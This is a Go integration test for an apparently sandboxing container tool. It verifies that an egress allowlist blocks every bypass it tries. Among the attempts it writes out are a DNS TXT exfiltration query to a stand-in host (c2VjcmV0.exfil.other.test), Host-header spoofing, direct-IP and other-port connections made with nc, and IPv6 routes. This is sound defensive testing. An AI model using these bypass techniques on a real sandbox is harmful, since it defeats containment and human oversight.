package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/composebox/composebox/internal/testutil"
	"github.com/composebox/composebox/orchestrator"
)

// TestEgressDockerAttackerSide starts a sample whose compose file asks for x-egress:
// [pkgs.test] with --egress pkgs.test, against a small internet of the test's own, and tries
// every way around the list from inside the sample: each is refused, the outside never sees it,
// and the refusals are egress_denied events. The allowed path works.
func TestEgressDockerAttackerSide(t *testing.T) {
	net := testutil.StartSmallInternet(t)
	bin := testutil.StaticComposebox(t)
	dir := t.TempDir()
	task := filepath.Join(dir, "egresstask")
	if err := os.MkdirAll(task, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(task, "compose.yaml"), []byte(`services:
  default:
    image: ${COMPOSEBOX_BASE_IMAGE}
    command: ["sleep", "infinity"]
    x-egress: [pkgs.test]
  helper:
    image: ${COMPOSEBOX_BASE_IMAGE}
    command: ["sleep", "infinity"]
`), 0o644); err != nil {
		t.Fatal(err)
	}
	state := t.TempDir()
	run := func(args ...string) (string, error) {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, bin, append([]string{"--state-dir", state}, args...)...)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		if err != nil {
			err = fmt.Errorf("%v: %s", err, errb.String())
		}
		return strings.TrimSpace(out.String()), err
	}
	taskName := fmt.Sprintf("egress%d", os.Getpid())
	t.Cleanup(func() {
		out, _ := exec.Command("docker", "ps", "-a", "--filter", "label=dev.composebox.task="+taskName, "--format", `{{.Label "com.docker.compose.project"}}`).Output()
		projects := map[string]bool{}
		for _, p := range strings.Fields(string(out)) {
			projects[p] = true
		}
		if len(projects) == 0 {
			t.Errorf("cleanup found no container of task %s", taskName)
		}
		for p := range projects {
			if _, err := run("down", p); err != nil {
				t.Errorf("down %s: %v", p, err)
			}
		}
	})
	out, err := run("up", "--task", taskName, "--egress", "pkgs.test", "--egress-resolver", net.Addr(53), task)
	if err != nil {
		t.Fatalf("up: %v", err)
	}
	lines := strings.Split(out, "\n")
	project := lines[len(lines)-1]
	ctr := project + "-default-1"
	execIn := func(c, script string) string {
		out, _ := exec.Command("docker", "exec", c, "sh", "-c", script).CombinedOutput()
		return string(out)
	}
	get := func(host, at, path string) string {
		return execIn(ctr, fmt.Sprintf(`printf 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 5 %s 2>&1`, path, host, at))
	}

	if got := get("pkgs.test", "pkgs.test 80", "/allowed"); !strings.Contains(got, "pkgs /allowed") {
		t.Fatalf("the allowed name over HTTP: %q", got)
	}
	if got := execIn(ctr, "nslookup other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("a non-listed name resolved: %q", got)
	}
	if got := execIn(ctr, "nslookup -type=TXT c2VjcmV0.exfil.other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("TXT for a subdomain of a non-listed name: %q", got)
	}
	if got := execIn(ctr, "nslookup pkgs.test "+net.Addr(53)); strings.Contains(got, net.Addr(2)) {
		t.Errorf("a direct query to the outside resolver was answered: %q", got)
	}
	if got := get("other.test", "pkgs.test 80", "/host-header"); !strings.Contains(got, "403") || strings.Contains(got, "other /") {
		t.Errorf("Host of a non-listed name: %q", got)
	}
	if got := get("pkgs.test", net.Addr(2)+" 80", "/direct-ip"); strings.Contains(got, "pkgs /") {
		t.Errorf("a direct connection to the allowed name's address: %q", got)
	}
	if got := get("pkgs.test", "pkgs.test 8080", "/other-port"); strings.Contains(got, "pkgs8080") {
		t.Errorf("the allowed name on another port: %q", got)
	}
	if got := get("pkgs.test", net.Addr(2)+" 8080", "/other-port-direct"); strings.Contains(got, "pkgs8080") {
		t.Errorf("the allowed name's address on another port: %q", got)
	}
	execIn(ctr, "nslookup -port=443 pkgs.test "+net.Addr(2)+"; nslookup pkgs.test "+net.Addr(2))
	if got := execIn(ctr, "ip -6 route; ip -6 addr show scope global"); strings.Contains(got, "default") || strings.Contains(got, "inet6") {
		t.Errorf("IPv6 around the list: %q", got)
	}
	if got := execIn(project+"-helper-1", "nslookup default"); strings.Contains(got, "NXDOMAIN") || !strings.Contains(got, "Address") {
		t.Errorf("services of the sample no longer reach each other: %q", got)
	}

	queries, hits, udp := net.Seen()
	for _, q := range queries {
		if strings.Contains(q, "other.test") {
			t.Errorf("the outside resolver saw %q", q)
		}
	}
	for _, h := range hits {
		if !strings.HasSuffix(h, "/allowed") && !strings.HasSuffix(h, "/reopened") {
			t.Errorf("the outside served %q", h)
		}
	}
	if udp != 0 {
		t.Errorf("%d UDP datagrams reached the outside", udp)
	}

	var st orchestrator.EgressState
	out, err = run("egress", "-p", project, "--json")
	if err != nil {
		t.Fatalf("egress: %v", err)
	}
	if err := json.Unmarshal([]byte(out), &st); err != nil {
		t.Fatalf("egress --json: %v\n%s", err, out)
	}
	want := map[string]bool{"dns other.test": false, "dns c2vjcmv0.exfil.other.test": false, "http other.test": false}
	for _, d := range st.Denials {
		k := d.Protocol + " " + d.Name
		if _, ok := want[k]; ok && d.Service == "default" {
			want[k] = true
		}
	}
	for k, seen := range want {
		if !seen {
			t.Errorf("no egress_denied event for %s from service default; denials: %+v", k, st.Denials)
		}
	}
	if got := st.Services["default"]; len(got) != 1 || got[0] != "pkgs.test" {
		t.Errorf("allowlist of default = %v", got)
	}

	// A runner closes the index for the agent, and the name is gone at once.
	if _, err := run("egress", "-p", project, "--close"); err != nil {
		t.Fatalf("egress --close: %v", err)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/closed"); strings.Contains(got, "pkgs /closed") {
		t.Errorf("after --close the name was still reached: %q", got)
	}
	if _, err := run("egress", "-p", project, "--set", "pkgs.test"); err != nil {
		t.Fatalf("egress --set: %v", err)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/reopened"); !strings.Contains(got, "pkgs /reopened") {
		t.Errorf("after --set pkgs.test: %q", got)
	}
}
